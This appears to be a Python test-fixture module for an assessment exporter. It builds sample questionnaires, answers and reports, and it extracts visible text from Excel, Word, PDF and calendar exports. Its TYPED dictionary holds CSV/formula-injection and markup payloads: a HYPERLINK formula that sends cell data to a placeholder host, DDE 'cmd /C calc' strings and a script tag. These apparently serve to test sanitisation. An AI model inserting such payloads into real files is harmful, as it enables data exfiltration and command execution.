"""Assessments with answers of every kind, and the text that an independent reader finds in an exported file."""

from __future__ import annotations

import random
import re
from dataclasses import replace
from datetime import UTC, date, datetime
from io import BytesIO
from typing import Any

from assistant.catalogue import load_questionnaires
from assistant.export import FORMATS, Origin, export_bytes
from assistant.models import Assessment, StoredAnswer
from assistant.questionnaire import NOT_APPLICABLE, UNKNOWN, Questionnaire
from assistant.replies import answer_sheet, with_reply
from assistant.report import Report, build_report
from assistant.settings import load_settings
from tests.forms import make_form, make_question

TODAY, ANSWERED = date(2026, 3, 2), datetime(2026, 3, 1, 9, tzinfo=UTC)
NOTES = ("", "", "Lo probamos en marzo con «ACME», pero no hay acta. ¿Quién la firma?\nPendiente: “Compras” — ñandú, O’Higgins y D'Angelo.")
OWNERS = ("", "", "María Núñez", "Íñigo O'Brien")
MARGIN = 55  # points at the top and bottom of a page that hold no text of the report itself
WRITTEN = tuple(suffix for suffix in FORMATS if suffix != ".json")
TYPED = {  # what would run, or break the layout, where a file took it for more than text
    "formula": '=HYPERLINK("http://example.invalid/?"&A1,"pulse")',
    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "markup": "![x](http://example.invalid/x.png) <script>alert(1)</script> [a](http://example.invalid) # | #eval(1) $x$ @ref <lbl>",
    "control": "uno\x00dos\x0btres\u202ecuatro",
    "long": "x" * 400,
}


def make_assessment(questionnaire: Questionnaire, title: str = "Nómina y tesorería") -> Assessment:
    made, form = datetime(2026, 2, 1, tzinfo=UTC), questionnaire
    return Assessment("0f3a", title, "ACME Servicios, S. A.", form.id, form.version, "full", "es-ES", None, made, made, False, 1)


def make_answers(questionnaire: Questionnaire, seed: int = 1) -> dict[str, StoredAnswer]:
    """Answers of every kind: some left open, unknown or not applicable, with and without note, owner, date and status."""
    chance, answers = random.Random(seed), {}
    for question in questionnaire.questions:
        options = [option.id for option in question.options] or ["4 h"]
        reply = chance.choice([*options, UNKNOWN, "", *([NOT_APPLICABLE] if question.not_applicable else [])])
        if reply:
            empty = StoredAnswer(question.id, note=chance.choice(NOTES), owner=chance.choice(OWNERS), due=chance.choice([None, date(2026, 6, 30)]))
            status = chance.choice(["open", "in_progress", "done", "accepted"])
            given = replace(empty, status=status, answered=ANSWERED, version=chance.randint(1, 9))
            answers[question.id] = with_reply(given, question, reply, "Lo hace la matriz")
    return answers


def make_report(questionnaire: Questionnaire, answers: dict[str, StoredAnswer], language: str = "es", title: str = "Nómina y tesorería") -> Report:
    return build_report(load_settings({}), questionnaire, answer_sheet(make_assessment(questionnaire, title), answers, TODAY), language)


def questionnaire_of(name: str) -> Questionnaire:
    return load_questionnaires(load_settings({}))[name]


def book_of(content: bytes) -> Any:
    from openpyxl import load_workbook

    return load_workbook(BytesIO(content))


LANGUAGES = {"es": questionnaire_of("continuity"), "en": questionnaire_of("data-protection")}  # those that cite most


class Files(dict[tuple[str, str], bytes]):
    """A report a language in every format, by language and suffix; each made when it is first asked for."""

    def __init__(self, reports: dict[str, Report]) -> None:
        self._reports = reports

    def __missing__(self, key: tuple[str, str]) -> bytes:
        language, suffix = key
        self[key] = export_bytes(self._reports[language], suffix, language)
        return self[key]


def origin_of(answers: dict[str, StoredAnswer]) -> Origin:
    return Origin("0f3a", {name: answer.version for name, answer in answers.items()})


def make_large() -> tuple[Questionnaire, dict[str, StoredAnswer]]:
    """A questionnaire of 300 questions, all of them gaps, each with a note of 4,000 characters."""
    form = make_form([make_question(f"q{number:03}", "ab"[number % 2], 1 + number % 5) for number in range(300)], {"a": 3, "b": 1})
    note = ("Párrafo con “comillas”, ñ y una palabra larguísima: " + "desoxirribonucleico" * 3 + ". ") * 40
    return form, {q.id: StoredAnswer(q.id, "s0", note=f"{q.id} {note}"[:3990] + f" fin {q.id}", answered=ANSWERED, version=1) for q in form.questions}


def text_of(suffix: str, content: bytes) -> str:
    """Everything that a reader sees in the file."""
    return {".xlsx": _excel_text, ".docx": _word_text, ".pdf": _pdf_text, ".ics": _calendar_text}.get(suffix, _plain_text)(content)


def squeezed(text: str) -> str:
    """Text without blanks, so that where lines break does not matter."""
    return re.sub(r"[\s\u200b]+", "", text)


def _plain_text(content: bytes) -> str:
    return re.sub(r"\\([^\w\s])", r"\1", content.decode("utf-8-sig")).replace('""', '"')


def _excel_text(content: bytes) -> str:
    sheets = [sheet for sheet in book_of(content).worksheets if sheet.sheet_state == "visible"]
    return "\n".join(str(cell.value) for sheet in sheets for row in sheet.iter_rows() for cell in row if cell.value is not None)


def _word_text(content: bytes) -> str:
    from docx import Document

    document = Document(BytesIO(content))
    return "\n".join("".join(text.text or "" for text in line.iter(_tag("t"))) for line in document.element.body.iter(_tag("p")))


def _tag(name: str) -> str:
    return f"{{http://schemas.openxmlformats.org/wordprocessingml/2006/main}}{name}"


def _pdf_text(content: bytes) -> str:
    """The pages' texts without what stands in their margins, so that a sentence that goes over to the next page stays whole."""
    from pypdf import PdfReader

    parts: list[str] = []
    for page in PdfReader(BytesIO(content)).pages:
        high = float(page.mediabox.height) - MARGIN

        def visit(text: str, outer: list[float], inner: list[float], *_: object, high: float = high) -> None:
            if MARGIN < inner[4] * outer[1] + inner[5] * outer[3] + outer[5] < high:
                parts.append(text)

        page.extract_text(visitor_text=visit)
    return "".join(parts)


def _calendar_text(content: bytes) -> str:
    from icalendar import Calendar

    return "\n".join(str(value) for event in Calendar.from_ical(content).walk("VEVENT") for value in (event["SUMMARY"], event["DESCRIPTION"]))
